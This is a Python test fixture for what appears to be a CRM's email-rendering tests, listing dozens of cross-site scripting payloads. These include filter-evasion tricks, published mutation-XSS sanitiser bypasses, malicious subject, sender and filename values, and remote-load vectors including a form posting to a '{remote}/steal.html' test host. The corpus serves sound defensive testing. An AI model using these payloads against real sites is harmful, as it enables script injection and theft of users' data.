"""XSS corpus for tests/e2e/test_xss.py: (id, HTML) pairs. Every vector that gets to run
calls ``__xss('<id>')`` (or alert()); ``{remote}`` is another origin that records requests.

Sources: OWASP's XSS filter evasion cheat sheet, the HTML5 Security Cheatsheet, and the
published DOMPurify / nh3 mutation-XSS bypasses (noscript, mglyph/style, form/math, svg/style,
annotation-xml, template)."""

from __future__ import annotations

BODY_VECTORS: list[tuple[str, str]] = [
    # script elements
    ("script", "<script>__xss('script')</script>"),
    ("script-src", "<script src='{remote}/x.js'></script>"),
    ("script-split", "<scr<script>ipt>__xss('script-split')</scr</script>ipt>"),
    ("script-slash", "<script/x>__xss('script-slash')</script>"),
    ("script-double-lt", "<<script>__xss('script-double-lt');//<</script>"),
    ("script-entity", "<script>&#95;_xss('script-entity')</script>"),
    # event handlers
    ("img-onerror", "<img src=x onerror=\"__xss('img-onerror')\">"),
    ("img-onerror-case", "<IMG SRC=x oNeRrOr=__xss('img-onerror-case')>"),
    ("img-onerror-entity", "<img src=x onerror=&#95;&#95;xss('img-onerror-entity')>"),
    ("body-onload", "<body onload=\"__xss('body-onload')\">text"),
    ("onmouseover", "<div onmouseover=\"__xss('onmouseover')\" style='height:80px'>hover</div>"),
    ("onclick", "<a href='#' onclick=\"__xss('onclick')\">click me</a>"),
    ("autofocus", "<input autofocus onfocus=\"__xss('autofocus')\">"),
    ("details", "<details open ontoggle=\"__xss('details')\"><summary>s</summary></details>"),
    ("source-onerror", "<video><source onerror=\"__xss('source-onerror')\"></video>"),
    ("marquee", "<marquee onstart=\"__xss('marquee')\">m</marquee>"),
    ("audio-onerror", "<audio src=x onerror=\"__xss('audio-onerror')\"></audio>"),
    # javascript: and data: URLs
    ("js-href", "<a href=\"javascript:__xss('js-href')\">js link</a>"),
    ("js-href-case", "<a href=\"JaVaScRiPt:__xss('js-href-case')\">js link</a>"),
    ("js-href-entity", "<a href=\"&#106;avascript:__xss('js-href-entity')\">js link</a>"),
    ("js-href-tab", "<a href=\"jav&#x09;ascript:__xss('js-href-tab')\">js link</a>"),
    ("js-href-space", "<a href=\" javascript:__xss('js-href-space')\">js link</a>"),
    ("js-href-blank",
     "<a target=_blank href=\"javascript:__xss('js-href-blank')\">js popup</a>"),
    ("js-iframe", "<iframe src=\"javascript:__xss('js-iframe')\"></iframe>"),
    ("js-form", "<form action=\"javascript:__xss('js-form')\"><button>go</button></form>"),
    ("js-formaction", "<form><button formaction=\"javascript:__xss('js-formaction')\">b"
                      "</button></form>"),
    ("data-href", "<a href=\"data:text/html,<script>__xss('data-href')</script>\">data</a>"),
    ("data-iframe", "<iframe src=\"data:text/html,<script>__xss('data-iframe')</script>\">"
                    "</iframe>"),
    ("data-object", "<object data=\"data:text/html,<script>__xss('data-object')</script>\">"
                    "</object>"),
    ("data-embed", "<embed src=\"data:text/html,<script>__xss('data-embed')</script>\">"),
    ("srcdoc", "<iframe srcdoc=\"<script>__xss('srcdoc')</script>\"></iframe>"),
    # SVG
    ("svg-onload", "<svg onload=\"__xss('svg-onload')\"></svg>"),
    ("svg-script", "<svg><script>__xss('svg-script')</script></svg>"),
    ("svg-xlink", "<svg><a xlink:href=\"javascript:__xss('svg-xlink')\"><text x=10 y=20>"
                  "svg link</text></a></svg>"),
    ("svg-animate", "<svg><animate onbegin=\"__xss('svg-animate')\" attributeName=x dur=1s>"
                    "</svg>"),
    ("svg-foreign", "<svg><foreignObject><img src=x onerror=\"__xss('svg-foreign')\">"
                    "</foreignObject></svg>"),
    ("svg-data-img", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
                     "onload='__xss(1)'/>\">"),
    # CSS
    ("css-expression", "<div style=\"width: expression(__xss('css-expression'))\">e</div>"),
    ("css-js-url", "<div style=\"background-image: url(javascript:__xss('css-js-url'))\">u</div>"),
    ("css-import", "<style>@import '{remote}/import.css';</style>"),
    ("css-remote-bg", "<style>body{{background:url('{remote}/style-bg.png')}}</style>"),
    ("css-inline-bg", "<div style=\"background:url({remote}/inline-bg.png)\">bg</div>"),
    ("css-binding", "<div style=\"-moz-binding:url({remote}/xbl.xml#x)\">b</div>"),
    ("link-stylesheet", "<link rel=stylesheet href='{remote}/link.css'>"),
    # <base> and <meta refresh>
    ("base-js", "<base href=\"javascript:__xss('base-js')//\"><a href='/x'>base link</a>"),
    ("base-remote", "<base href='{remote}/'><img src='relative.png'><a href='page.html'>rel</a>"),
    ("meta-refresh-js", "<meta http-equiv=refresh content=\"0;url=javascript:__xss('meta-js')\">"),
    ("meta-refresh-remote", "<meta http-equiv=refresh content='0;url={remote}/refresh.html'>"),
    ("meta-csp", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">"
                 "<script>__xss('meta-csp')</script>"),
    # mutation XSS
    ("mxss-noscript", "<noscript><p title=\"</noscript><img src=x "
                      "onerror=__xss('mxss-noscript')>\"></noscript>"),
    ("mxss-mglyph", "<math><mtext><table><mglyph><style><img src=x "
                    "onerror=__xss('mxss-mglyph')></style></mglyph></table></mtext></math>"),
    ("mxss-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src "
                       "onerror=__xss('mxss-form-math')>"),
    ("mxss-svg-style", "<svg></p><style><a id=\"</style><img src=1 "
                       "onerror=__xss('mxss-svg-style')>\"></svg>"),
    ("mxss-annotation", "<math><annotation-xml encoding=\"text/html\"><style><img src=x "
                        "onerror=__xss('mxss-annotation')></style></annotation-xml></math>"),
    ("mxss-template", "<template><img src=x onerror=__xss('mxss-template')></template>"
                      "<template><script>__xss('template-script')</script></template>"),
    ("mxss-xmp", "<xmp><p title=\"</xmp><img src=x onerror=__xss('mxss-xmp')>\"></xmp>"),
    ("mxss-comment", "<!--<img src=\"--><img src=x onerror=__xss('mxss-comment')//\">"),
    ("mxss-textarea", "<textarea></textarea><img src=x onerror=__xss('mxss-textarea')>"),
    ("mxss-title", "<title><img src=x onerror=__xss('mxss-title')></title>"),
    ("mxss-select", "<select><style></select><img src=x onerror=__xss('mxss-select')>"
                    "</style></select>"),
    # remote content that must wait for the viewer's consent
    ("remote-img", "<img src='{remote}/pixel.png?img' alt=pixel>"),
    ("remote-img-protocol-relative", "<img src='{remote_no_scheme}/pixel.png?relative'>"),
    ("remote-background", "<table background='{remote}/pixel.png?table-bg'><tr><td>t</td></tr>"
                          "</table>"),
    ("remote-srcset", "<img srcset='{remote}/pixel.png?srcset 1x'>"),
    ("remote-poster", "<video poster='{remote}/pixel.png?poster'></video>"),
    ("remote-input-image", "<input type=image src='{remote}/pixel.png?input'>"),
    ("remote-object", "<object data='{remote}/page.html'></object>"),
    ("remote-iframe", "<iframe src='{remote}/frame.html'></iframe>"),
    ("remote-form", "<form action='{remote}/steal.html' method=post><input name=p value=1>"
                    "<button>send</button></form>"),
]

# Header and file-name vectors: shown by the CRM's own pages (lists, detail, dashboard,
# the ticket made from the message), never in the sandboxed frame.
SUBJECT = "<script>__xss('subject')</script><img src=x onerror=__xss('subject-img')>"
FROM_NAME = "\"><svg onload=__xss('from-name')>"
FILENAME = "<img src=x onerror=__xss('filename')>.html"
HTML_ATTACHMENT = b"<html><body><script>__xss('attachment-html')</script></body></html>"
SVG_ATTACHMENT = (b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"__xss('attachment-svg')\">"
                  b"<script>__xss('attachment-svg-script')</script></svg>")


def body_vectors(remote: str) -> list[tuple[str, str]]:
    """The body vectors with ``{remote}`` filled in."""
    no_scheme = remote.split(":", 1)[1]
    return [(vid, html.format(remote=remote, remote_no_scheme=no_scheme))
            for vid, html in BODY_VECTORS]
